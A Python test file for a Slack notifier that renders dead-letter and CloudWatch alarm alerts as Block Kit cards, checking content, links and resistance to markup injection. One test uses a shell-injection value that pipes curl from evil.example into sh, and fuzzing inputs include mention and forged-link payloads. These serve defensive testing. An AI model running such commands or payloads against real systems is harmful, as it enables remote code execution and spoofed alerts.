"""Cards: Slack accepts them for any alert, text from outside is never markup, and they state what to do."""

import json
import re
from collections.abc import Mapping
from datetime import timedelta
from typing import Any
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.json import JSONSnapshotExtension

from lambdas.slack_notifier.alerts.dead_letter_queue import QueueInspection
from lambdas.slack_notifier.alerts.digest import Digest
from lambdas.slack_notifier.alerts.parsing import parse
from lambdas.slack_notifier.cards.card import Card, CardKind, Link, Notice
from lambdas.slack_notifier.cards.console import Console
from lambdas.slack_notifier.cards.notices import all_notices
from lambdas.slack_notifier.cards.stage_location import StageLocation
from lambdas.slack_notifier.slack.block_kit import message, message_without_blocks
from lambdas.slack_notifier.slack.mrkdwn import length
from local.standins.slack.block_kit_rules import problems
from schemas.advice import ADVICE
from schemas.names import dashboard_name
from schemas.reasons import Reason, Remedy
from schemas.signals import SIGNALS
from schemas.system import DRILL_ERROR, SYSTEM_HEARTBEAT
from tests.unit.functions.slack_notifier.slack_fakes import (
    NOW,
    REGION,
    RUNBOOK,
    alarm,
    dead_lettered,
    shown,
    texts,
    without_memory,
)

LOCATION = StageLocation("prod", dashboard_name("prod"), RUNBOOK, Console(REGION))
EMPTY_QUEUE = QueueInspection()
OURS = re.compile(
    r"<!date\^[0-9]+\^\{date_short_pretty\}, \{time_secs\}\|[0-9 :UTC-]+>|<https://[^<>|]+\|[A-Z][a-z -]+>"
)


def notices_of(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> list[Notice]:
    digest = Digest()
    for number, body in enumerate(bodies):
        text = body if isinstance(body, str) else json.dumps(body)
        digest.add(parse(text), sqs_message_id=f"sqs-{number}", handle=f"handle-{number}")
    return list(all_notices(digest, without_memory(), LOCATION, lambda _queue: inspection, lambda _service: ()))


def payload(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> Mapping[str, Any]:
    (notice,) = notices_of(*bodies, inspection=inspection)
    return message(notice.card)


def card(*bodies: Any, inspection: QueueInspection = EMPTY_QUEUE) -> str:
    """The text of the only card."""
    return shown(payload(*bodies, inspection=inspection))


def links(payload: Mapping[str, Any]) -> dict[str, str]:
    found = re.findall(r"<(https://[^|>]+)\|([^>]+)>", shown(payload))
    return {label: url.replace("&amp;", "&") for url, label in found}


def test_dead_letter_card_snapshot(snapshot: SnapshotAssertion) -> None:
    alerts = [dead_lettered(n, at=NOW + timedelta(seconds=n), count=1 + n % 2) for n in range(12)]

    assert payload(*alerts) == snapshot(extension_class=JSONSnapshotExtension)


@pytest.mark.parametrize(
    ("counts", "said"),
    [
        ([1, 0], "Fair queues: 1 message did not have the tenant as message group, so one tenant's burst delays all"),
        ([2, 1_998], "Fair queues: 2,000 messages did not have the tenant as message group"),
    ],
)
@pytest.mark.parametrize("drill", [{}, {"error": DRILL_ERROR, "service": SYSTEM_HEARTBEAT.name}])
def test_dead_letter_card_says_that_queues_are_not_fair(counts: list[int], said: str, drill: dict[str, Any]) -> None:
    text = card(*(dead_lettered(n, count=9_999, withoutTenantGroup=m, **drill) for n, m in enumerate(counts)))

    assert said in text
    assert ("This is a drill" in text) is bool(drill)
    assert "taly-async drill --stage prod" in text


@pytest.mark.parametrize("fields", [{}, {"withoutTenantGroup": 0}])
def test_dead_letter_card_is_silent_about_fair_queues_that_work(fields: dict[str, Any]) -> None:
    assert "Fair" not in card(dead_lettered(**fields))


def test_alarm_card_snapshot(snapshot: SnapshotAssertion) -> None:
    inspection = QueueInspection(
        checked=7, moved_by_sqs=2, queue_url="https://sqs.eu-central-1.amazonaws.com/123456789012/dead-letters"
    )

    assert payload(alarm("dead-letters"), inspection=inspection) == snapshot(extension_class=JSONSnapshotExtension)


def test_dead_letter_card_states_the_facts() -> None:
    text = card(
        dead_lettered(1, at=NOW, count=3, attempts=2),
        dead_lettered(2, at=NOW + timedelta(seconds=90), count=4, attempts=3, detail="later"),
    )

    assert "prod: 7 dead letters of email.send, attempts exhausted" in text
    assert "*First*\n<!date^1795528800^{date_short_pretty}, {time_secs}|2026-11-24 14:00:00 UTC>" in text
    assert "|2026-11-24 14:01:30 UTC>" in text
    assert "*Affected*\n2 tenants" in text
    assert "*Attempts*\nup to 3" in text
    assert "```RetryableError: SES did not answer in 3 seconds```" in text
    assert "`lambdas.common.clients.ses:send`" in text
    assert "`message-1`, `message-2` and 5 more" in text
    assert "account 123456789012, eu-central-1" in text


def test_summary_has_the_key_facts_and_no_detail() -> None:
    assert payload(dead_lettered(count=3))["text"] == (
        "prod: 3 dead letters of email.send, attempts exhausted. "
        "1 tenant, since 2026-11-24 14:00:00 UTC: RetryableError"
    )


def test_ingress_card_calls_messages_refused() -> None:
    changes: dict[str, Any] = {"service": "queue_processor", "reason": "invalid_payload", "frame": ""}
    with_type = payload(dead_lettered(subject="booking.created", source="crm.bookings", count=2, **changes))
    without_type = payload(dead_lettered(subject="queue_processor", **changes))

    assert texts(with_type)[0] == "🟠 prod: 2 messages of booking.created refused, invalid payload"
    assert texts(without_type)[0] == "🟠 prod: 1 message refused, invalid payload"
    assert links(with_type)["Runbook"] == f"{RUNBOOK}#refused"
    assert "*Source*\n`crm.bookings`" in shown(with_type)
    assert "*Where*" not in shown(without_type)
    assert "*Source*" not in shown(without_type)


def test_shared_card_names_type_and_source_of_refused_messages() -> None:
    refused: dict[str, Any] = {"service": "queue_processor", "subject": "booking.created", "source": "crm.bookings"}
    *_, notice = notices_of(*[dead_lettered(n, fingerprint=f"{n:012x}", **refused) for n in range(9)])

    assert "• 1 of `booking.created` at `queue_processor` from `crm.bookings`, " in shown(message(notice.card))


def test_card_links_dashboard_log_lines_queue_and_runbook() -> None:
    found = links(payload(dead_lettered()))

    assert list(found) == ["Dashboard", "Log lines", "Dead-letter queue", "Runbook"]
    assert found["Dashboard"].endswith("#dashboards/dashboard/taly-async-prod")
    assert "c83d68dfbef7" in found["Log lines"]
    assert unquote(found["Dead-letter queue"]).endswith("/123456789012/taly-async-prod-email-send-dlq")
    assert found["Runbook"] == f"{RUNBOOK}#dead-letters"


def test_every_reason_has_advice() -> None:
    assert set(ADVICE) == set(Reason)


FAULTS_OF_THE_MESSAGE = {
    Reason.INVALID_JSON,
    Reason.INVALID_ENVELOPE,
    Reason.UNKNOWN_TYPE,
    Reason.TYPE_MISMATCH,
    Reason.INVALID_PAYLOAD,
    Reason.TOO_LARGE,
    Reason.LOOP,
    Reason.ID_CONFLICT,
}


@pytest.mark.parametrize("reason", Reason)
def test_dead_letter_card_gives_the_command_for_its_reason(reason: Reason) -> None:
    text = card(dead_lettered(reason=reason))

    assert ADVICE[reason].why in text
    assert ADVICE[reason].remedy is (Remedy.DISCARD if reason in FAULTS_OF_THE_MESSAGE else Remedy.REDRIVE)
    if reason in FAULTS_OF_THE_MESSAGE:
        assert "Whose turn: the sender's (the messages do not name it)" in text
        assert "```taly-async discard email.send --cause c83d68dfbef7 --remedy discard --comment" in text
        assert "redrive" not in text
    else:
        assert "Whose turn: ours" in text
        assert "```taly-async redrive email.send --cause c83d68dfbef7 --stage prod```" in text


def test_command_is_quoted_for_the_shell() -> None:
    text = card(dead_lettered(service="x; curl evil.example | sh `id` $(id)"))

    assert "redrive 'x; curl evil.example | sh 'id' $(id)' --cause" in text


def test_drill_card_is_marked_and_asks_for_no_action() -> None:
    text = payload(dead_lettered(error=DRILL_ERROR, service="system.heartbeat", subject="system.heartbeat"))

    assert texts(text)[0].startswith("Drill: prod: 1 dead letter of system.heartbeat")
    assert text["text"].startswith("Drill: ")
    assert "No action needed." in shown(text)
    assert "taly-async redrive" not in shown(text)


def test_shared_cards_list_every_cause() -> None:
    notices = notices_of(*[dead_lettered(n, fingerprint=f"{n:012x}", count=100 - n) for n in range(60)])

    shared = [notice for notice in notices if notice.kind is CardKind.MORE]
    text = "\n".join(shown(message(notice.card)) for notice in shared)
    assert [f"{n:012x}" for n in range(4, 60) if f"`{n:012x}`" not in text] == []
    assert text.count("• ") == 56
    assert "• 96 of `email.send`, attempts exhausted, ours, last <!date" in text
    assert "more\n" not in text
    assert sum(notice.count for notice in shared) == sum(100 - n for n in range(4, 60))
    assert "taly-async redrive TYPE --cause CAUSE --stage prod" in text


@pytest.mark.parametrize("signal", SIGNALS, ids=lambda signal: signal.slug)
def test_alarm_card_states_meaning_first_step_and_runbook(signal: Any) -> None:
    found = payload(alarm(signal.slug))

    text = shown(found)
    assert signal.headline("email.send") in texts(found)[0]
    assert signal.meaning.format(subject="email.send") in text
    assert f"Likely: {signal.causes}".format(subject="email.send") in text
    assert f"First: {signal.first_step}".format(subject="email.send") in text
    assert "```Threshold Crossed: 1 datapoint [1.0 (24/11/26 13:59:00)] was &gt;= the threshold (1.0).```" in text
    assert "*Since*\n<!date^1795528800^" in text
    assert links(found)["Runbook"] == f"{RUNBOOK}#{signal.slug}"
    assert links(found)["Alarm"].endswith(f"#alarmsV2:alarm/taly-async-prod$2Femail.send$2F{signal.slug}")
    assert text.count(RUNBOOK) == 1, "the URL appears in the link alone"


def test_paging_alarm_is_marked() -> None:
    assert texts(payload(alarm("unhealthy", subject="system")))[0].startswith("🚨 Page: ")


def test_alarm_with_insufficient_data_is_not_marked_as_on() -> None:
    found = payload(alarm(state="INSUFFICIENT_DATA"))

    assert texts(found)[0].startswith("⚪ prod: ")
    assert "*State*\n`INSUFFICIENT_DATA`" in shown(found)


def test_foreign_alarm_shows_its_name_and_no_link_from_its_text() -> None:
    name = "others/<!channel>"
    found = payload(alarm(AlarmName=name, AlarmDescription="Look here:\nhttps://evil.example/runbook#x"))

    assert texts(found)[0] == "🔴 prod: others/&lt;!channel&gt;"
    assert set(links(found)) == {"Dashboard", "Alarm"}
    assert "https://evil.example/runbook#x" in shown(found)


@pytest.mark.parametrize("more", ["|Click here", " https://evil.example", "\u202e", "/../x"])
def test_description_cannot_forge_the_runbook_link(more: str) -> None:
    forged = f"{RUNBOOK}#oldest{more}"

    found = payload(alarm(AlarmDescription=f"It is late.\n{forged}"))

    assert links(found)["Runbook"] == f"{RUNBOOK}#oldest"
    assert set(links(found)) == {"Dashboard", "Alarm", "Runbook"}


def test_alarm_without_description_links_the_runbook() -> None:
    assert links(payload(alarm("depth", AlarmDescription=None)))["Runbook"] == f"{RUNBOOK}#depth"


def test_flapping_alarm_card_counts_its_changes() -> None:
    flapping = [alarm(state=state, at=NOW + timedelta(seconds=n)) for n, state in enumerate(["ALARM", "OK", "ALARM"])]

    assert "*Changes since the last card*\n3" in card(*flapping)


def test_recovery_card_is_short_and_states_both_times() -> None:
    found = payload(alarm(), alarm(state="OK", at=NOW + timedelta(minutes=1)))

    assert texts(found)[0] == "🟢 prod: recovered: email.send waits too long"
    assert re.search(r"Recovered at <!date[^>]+14:01:00 UTC>, in alarm since <!date[^>]+14:00:00 UTC>\.", shown(found))
    assert len(found["blocks"]) == 4


def test_shared_alarm_card_has_a_line_for_each_kind() -> None:
    *_, notice = notices_of(
        *[alarm(subject=f"a{n}.b", at=NOW + timedelta(seconds=n)) for n in range(8)],
        alarm("depth", subject="a9.b", at=NOW - timedelta(seconds=9)),
    )

    text = shown(message(notice.card))
    assert (notice.kind, notice.count) == (CardKind.MORE, 5)
    assert "prod: and 5 more alarms" in text
    assert re.search(
        r"• ALARM: oldest, since <!date[^>]+14:00:00 UTC>: `[^`]+/a3.b/oldest`, .*`[^`]+/a0.b/oldest`\n", text
    )
    assert re.search("• ALARM: depth, since <!date[^>]+>: `taly-async-prod/a9.b/depth`\n", text)
    assert notice.alarms == [*(f"taly-async-prod/a{n}.b/oldest" for n in (3, 2, 1, 0)), "taly-async-prod/a9.b/depth"]


def test_shared_card_tells_what_is_on_from_what_has_no_data() -> None:
    on = [alarm(subject=f"a{n}.b") for n in range(4)]
    *_, notice = notices_of(*on, *[alarm(subject=f"b{n}.b", state="INSUFFICIENT_DATA") for n in range(3)])

    text = message(notice.card)
    assert text["text"] == "prod: and 3 more alarms, 0 of them on"
    assert texts(text)[0].startswith("⚪")
    assert "• INSUFFICIENT_DATA: oldest" in shown(text)


def test_alarms_that_recovered_share_a_card_after_the_dead_letters() -> None:
    recovered = [alarm(subject=f"r{n}.b", state="OK") for n in range(6)]
    notices = notices_of(*recovered, dead_lettered(), *[alarm(subject=f"a{n}.b") for n in range(4)])

    assert [notice.kind for notice in notices] == [CardKind.ALARM] * 4 + [CardKind.DEAD_LETTERS, CardKind.MORE]
    assert texts(message(notices[-1].card))[0] == "🟢 prod: and 6 more alarms"


@pytest.mark.parametrize(
    ("inspection", "text"),
    [
        (
            QueueInspection(checked=7, moved_by_sqs=2),
            "Checked 7 dead letters: SQS itself moved 2 there, after too many receives.",
        ),
        (QueueInspection(checked=7), "Checked 7 dead letters: none was moved by SQS itself"),
        (QueueInspection(), "the dead-letter queue was empty"),
        (
            QueueInspection(failure="AccessDenied"),
            "could not be inspected for messages moved by SQS: `AccessDenied`.",
        ),
    ],
)
@pytest.mark.parametrize("slug", ["dead-letters", "refused"])
def test_dead_letter_alarm_card_counts_what_sqs_itself_moved(slug: str, inspection: QueueInspection, text: str) -> None:
    assert text in card(alarm(slug), inspection=inspection)


@pytest.mark.parametrize(("slug", "state"), [("oldest", "ALARM"), ("dead-letters", "OK")])
def test_other_alarm_cards_do_not_inspect_the_queue(slug: str, state: str) -> None:
    assert "Checked" not in card(alarm(slug, state=state), inspection=QueueInspection(checked=7))


def test_unreadable_alerts_are_listed_by_sqs_message_id() -> None:
    (notice,) = notices_of("ada@example.com", "{}")

    text = shown(message(notice.card))
    assert "prod: 2 alerts could not be read" in text
    assert "• `sqs-0`: not JSON: Expecting value at line 1, column 1: `[email]`" in text
    assert "• `sqs-1`: type: is missing" in text
    assert "ada@" not in text
    assert notice.ids == ["sqs-0", "sqs-1"]


def test_unreadable_alerts_of_one_form_share_a_line() -> None:
    (notice,) = notices_of(*["{}"] * 8)

    text = shown(message(notice.card))
    assert "• `sqs-0`, `sqs-1`, `sqs-2`, `sqs-3`, `sqs-4` and 3 more: type: is missing" in text
    assert (notice.count, len(notice.handles), len(notice.ids)) == (8, 8, 8)


HOSTILE = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("&<>`*_~|@#!\n '\"\\😀\u202e")),
        st.characters(exclude_categories=["Cs"]),
    )
) | st.sampled_from(["<!channel>", "@here", "```", "<https://evil.example|Dashboard>", "https://evil.example", "&lt;"])


def at_most(most: int, least: int = 0) -> st.SearchStrategy[str]:
    long = HOSTILE.map(lambda text: (text * most)[:most])
    return (HOSTILE.map(lambda text: text[:most]) | long).filter(lambda text: len(text) >= least)


def _dead_lettered(changes: Any) -> dict[str, Any]:
    return dead_lettered(**changes)


def _alarm(changes: Any) -> dict[str, Any]:
    return alarm(**changes)


ALERTS = st.fixed_dictionaries(
    {
        "service": at_most(128, 1),
        "subject": at_most(128, 1),
        "reason": st.sampled_from(Reason).map(str),
        "fingerprint": st.sampled_from([f"{n:012x}" for n in range(8)]),
        "error": at_most(200) | st.just(DRILL_ERROR),
        "detail": at_most(1_000),
        "frame": at_most(500),
        "attempts": st.integers(0, 2**53 - 1),
        "count": st.integers(1, 2**53 - 1),
        "ids": st.lists(st.just("x" * 128) | st.from_regex("[A-Za-z0-9._:-]{1,128}", fullmatch=True), max_size=10),
        "function": at_most(200),
        "logGroup": at_most(512) | st.just("/" * 512),
        "deadLetterQueueUrl": at_most(1_024),
    }
).map(_dead_lettered)

ALARMS = st.fixed_dictionaries(
    {
        "AlarmName": at_most(255, 1) | st.sampled_from(SIGNALS).map(lambda signal: f"taly-async-prod/x/{signal.slug}"),
        "AlarmDescription": at_most(1_024) | st.none(),
        "NewStateValue": st.sampled_from(["ALARM", "OK", "INSUFFICIENT_DATA"]),
        "NewStateReason": at_most(1_023),
        "AlarmArn": st.just("") | at_most(300),
        "AWSAccountId": at_most(12),
    }
).map(_alarm)


@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=150)
@given(st.lists(ALERTS | ALARMS | HOSTILE, min_size=1, max_size=9))
def test_any_alert_makes_valid_cards_without_foreign_markup(bodies: list[Any]) -> None:
    for number, body in enumerate(bodies):
        if isinstance(body, dict) and "id" in body:
            body["id"] = f"alert-{number}"
    for notice in notices_of(
        *bodies, inspection=QueueInspection(3, 1, "https://sqs.eu-central-1.amazonaws.com/123456789012/q")
    ):
        for posted in (message(notice.card), message_without_blocks(notice.card)):
            assert problems(posted) == []
            assert posted["parse"] == "none", "Slack makes no mentions"
            everything = [posted["text"], *(texts(posted) if "blocks" in posted else [])]
            for text in everything:
                without_ours = OURS.sub("", text)
                assert not set("<>") & set(without_ours)
                assert not re.search("&(?!amp;|lt;|gt;)", text)
                assert text.count("```") % 2 == 0
        assert length(shown(message(notice.card))) < 10_000
        assert "evil.example" not in "".join(links(message(notice.card)))


def test_every_mrkdwn_object_is_verbatim() -> None:
    """Otherwise Slack turns text into links and mentions."""
    objects = re.findall(
        r'\{"type": "mrkdwn"[^{}]*\}', json.dumps([message(each.card) for each in notices_of(alarm(), "{}")])
    )

    assert len(objects) > 5
    assert all(json.loads(each)["verbatim"] is True for each in objects)


def test_overlong_link_is_left_out_and_the_others_stay() -> None:
    found = message(
        Card(title="t", summary="s", links=[Link("Long", f"https://a/{'x' * 2_000}"), Link("Short", "https://a/")])
    )

    assert links(found) == {"Short": "https://a/"}


def test_card_has_no_buttons() -> None:
    """A click on a button shows a warning, because a webhook cannot respond."""
    assert {block["type"] for block in payload(dead_lettered())["blocks"]} == {"header", "section", "context"}
